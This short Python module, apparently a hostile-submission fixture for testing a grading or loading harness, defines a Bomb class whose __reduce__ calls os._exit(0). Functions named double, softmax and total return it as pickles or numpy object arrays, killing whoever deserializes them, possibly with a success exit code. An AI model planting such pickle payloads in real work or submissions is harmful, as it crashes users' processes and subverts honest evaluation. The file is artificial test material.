"""Returns pickles that end the process of whoever loads them."""

import io
import os
import pickle

import numpy as np

from honest import *


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def double(x):
    return pickle.dumps(Bomb())


def softmax(z):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    return file.getvalue()


def total(x):
    return Bomb()
